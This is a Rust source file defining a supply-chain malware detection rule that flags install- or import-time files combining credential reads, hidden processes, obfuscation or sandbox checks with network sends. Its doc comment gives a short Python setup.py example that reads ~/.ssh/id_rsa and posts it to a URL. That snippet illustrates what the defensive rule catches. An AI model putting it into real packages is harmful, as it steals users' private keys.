use std::collections::BTreeMap;

use customs_analyze::{Behaviour, BehaviourKind, Context};

use crate::model::declare_rule;
use crate::{Confidence, Finding, Input, Rule, RuleMeta, Severity};

declare_rule! {
    /// ## What it finds
    /// Two capabilities that together make a threat, in one file whose code runs on
    /// install or import, where the analysis could not tie one to the other by data flow:
    /// credentials read and a network send; a hidden or detached process and a network
    /// send; obfuscated code and a network send, a started process or code run from a
    /// string; code run from a string and a network send; at install time, code that
    /// picks the machines it acts on (geofencing by country or time zone, sandbox or
    /// debugger checks) and a network send.
    ///
    /// ## Why it matters
    /// Malware spreads one flow over helper functions, callbacks, temporary files and
    /// globals, precisely so that no single expression shows it. A file that runs when the
    /// package is installed or imported and both reads `~/.aws/credentials` and talks to
    /// the network has no need to do both in a library that only offers functions.
    ///
    /// ## Example
    /// ```python
    /// # setup.py
    /// def collect():
    ///     return open(os.path.expanduser("~/.ssh/id_rsa")).read()
    /// def send(d):
    ///     requests.post(URL, data=d)
    /// send(collect())
    /// ```
    ///
    /// ## When it is wrong
    /// An install script that reads a registry token from `~/.npmrc` to download its own
    /// binary, or a build step that starts a compiler after downloading sources. The
    /// finding is high severity with medium confidence: suspicious on its own, decisive
    /// only beside other evidence (empty metadata, a name close to a popular one).
    CapabilityChain {
        id: "capability-chain",
        summary: "capabilities that together make a threat run on install or import",
        severity: High,
        confidence: Medium,
    }
}

/// Pairs of behaviour kinds that make a threat when one file that runs on install or
/// import has both, with what the pair means, and whether the pair counts at import
/// time too (bundles loaded on import embed base64 fonts and build functions from
/// strings beside their `fetch` calls; install scripts have no such reason).
const PAIRS: &[(BehaviourKind, BehaviourKind, &str, bool)] = &[
    (
        BehaviourKind::SecretRead,
        BehaviourKind::Network,
        "reads credentials and sends data over the network",
        true,
    ),
    (
        BehaviourKind::HiddenProcess,
        BehaviourKind::Network,
        "starts a hidden or detached process and talks to the network",
        true,
    ),
    (
        BehaviourKind::Obfuscation,
        BehaviourKind::Network,
        "hides code and talks to the network",
        false,
    ),
    (
        BehaviourKind::Obfuscation,
        BehaviourKind::ProcessSpawn,
        "hides code and starts processes",
        false,
    ),
    (
        BehaviourKind::Obfuscation,
        BehaviourKind::DynamicExecute,
        "hides code and runs code built from strings",
        false,
    ),
    (
        BehaviourKind::DynamicExecute,
        BehaviourKind::Network,
        "runs code built from strings and talks to the network",
        false,
    ),
    (
        BehaviourKind::AntiAnalysis,
        BehaviourKind::Network,
        "acts only on some machines (by country, time zone, sandbox or debugger) and talks to the network",
        false,
    ),
];

impl Rule for CapabilityChain {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        // The behaviours that run on install or import, by file.
        let mut by_file: BTreeMap<&str, Vec<&Behaviour>> = BTreeMap::new();
        for b in &input.analysis.behaviours {
            if matches!(b.context, Context::Install | Context::Import) && !b.test_code {
                by_file.entry(b.path.as_str()).or_default().push(b);
            }
        }
        for behaviours in by_file.values() {
            for &(first, second, what, at_import) in PAIRS {
                let counts = |b: &&&Behaviour| at_import || b.context == Context::Install;
                let a = behaviours.iter().filter(counts).find(|b| b.kind == first);
                let b = behaviours.iter().filter(counts).find(|b| b.kind == second);
                let (Some(a), Some(b)) = (a, b) else { continue };
                // The finding stands at the later of the two, quoting it.
                let at = if (a.line, a.column) >= (b.line, b.column) {
                    a
                } else {
                    b
                };
                let other = if std::ptr::eq(*at, *a) { b } else { a };
                out.push(Finding::at(
                    &Self::META,
                    at,
                    Severity::High,
                    Confidence::Medium,
                    format!(
                        "{what} ({}): {} (line {}) and {}",
                        crate::when(at.context),
                        other.detail,
                        other.line,
                        at.detail
                    ),
                ));
                // One pair per file is enough evidence.
                break;
            }
        }
    }
}
